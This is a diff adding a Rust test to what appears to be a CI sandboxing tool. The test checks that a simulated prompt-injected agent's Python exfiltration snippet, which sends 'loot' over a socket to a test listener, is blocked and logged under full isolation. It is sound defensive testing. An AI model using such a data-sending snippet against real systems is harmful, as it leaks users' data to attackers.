@@ -557,6 +557,104 @@ fn a_storm_of_secret_reads_is_aggregated() {
     assert_eq!(counted, 6000, "stderr: {}", ran.stderr);
 }
 
+// ───────────────────────────── calling out ─────────────────────────────
+
+/// The address this host would use to reach the outside (no packet is
+/// sent: a UDP `connect` only picks the route).
+fn outward_ip() -> Option<std::net::IpAddr> {
+    let probe = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
+    probe.connect("192.0.2.1:9").ok()?;
+    let ip = probe.local_addr().ok()?.ip();
+    (!ip.is_loopback() && !ip.is_unspecified()).then_some(ip)
+}
+
+/// What a listener accepted so far, with what each connection sent.
+fn accepted(l: &std::net::TcpListener) -> Vec<String> {
+    l.set_nonblocking(true).unwrap();
+    let mut got = Vec::new();
+    while let Ok((mut s, _)) = l.accept() {
+        s.set_nonblocking(false).unwrap();
+        s.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
+        let mut buf = String::new();
+        let _ = s.read_to_string(&mut buf);
+        got.push(buf);
+    }
+    got
+}
+
+/// A prompt-injected agent sends what it found to its attacker's server
+/// (here a listener of the test on this host's outward address) at FULL,
+/// where `auto` runs it: bare, the loot arrives; sandboxed, nothing
+/// arrives, the connect fails as unreachable, and the session log names
+/// the address and the program that tried. (Loopback stays the job's own:
+/// `full::local_server_on_loopback_inside_works`.) Runs as an unprivileged
+/// user.
+#[test]
+fn an_agent_calling_its_attacker_at_full_is_refused_and_named() {
+    if !require("an_agent_calling_its_attacker_at_full", "userns") {
+        return;
+    }
+    let Some(ip) = outward_ip() else {
+        eprintln!("SKIP an_agent_calling_its_attacker_at_full: this host has no outward address");
+        return;
+    };
+    let listener = std::net::TcpListener::bind((ip, 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let w = World::new();
+    let attack = format!(
+        "import socket\n\
+         try:\n\
+         \x20   socket.create_connection(('{ip}', {port}), 3).sendall(b'loot')\n\
+         \x20   print('sent')\n\
+         except OSError as e:\n\
+         \x20   print('refused', e.errno)\n"
+    );
+
+    let bare = run(w.command("python3", &["-c", &attack]));
+    assert!(String::from_utf8_lossy(&bare.stdout).contains("sent"));
+    assert_eq!(
+        accepted(&listener),
+        vec!["loot".to_string()],
+        "bare, the loot arrives"
+    );
+
+    let report = w.report_dir().to_str().unwrap().to_owned();
+    let ran = w.vetto(&[
+        "ci",
+        "--tier",
+        "full",
+        "--report-dir",
+        &report,
+        "--",
+        "python3",
+        "-c",
+        &attack,
+    ]);
+    let out = String::from_utf8_lossy(&ran.stdout);
+    assert!(
+        out.contains(&format!("refused {}", libc::ENETUNREACH)),
+        "{out}\n{}",
+        ran.stderr
+    );
+    assert!(accepted(&listener).is_empty(), "the loot left the sandbox");
+    assert_eq!(ran.code, Some(3), "stderr: {}", ran.stderr);
+    let log = w.session_log();
+    let hit = log
+        .iter()
+        .find(|l| l["rule"] == "net-egress-blocked")
+        .unwrap_or_else(|| panic!("no net-egress-blocked: {log:?}"));
+    assert_eq!(hit["target"]["addr"], ip.to_string(), "{hit}");
+    assert_eq!(hit["target"]["port"], port, "{hit}");
+    assert_eq!(hit["action"], "blocked", "{hit}");
+    assert!(
+        hit["process"]["exe"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("python3"),
+        "{hit}"
+    );
+}
+
 // ───────────────────────────── forged workflow commands ─────────────────────────────
 
 /// A sandboxed step prints `::set-env` / `::add-path` / `##[…]` to inject
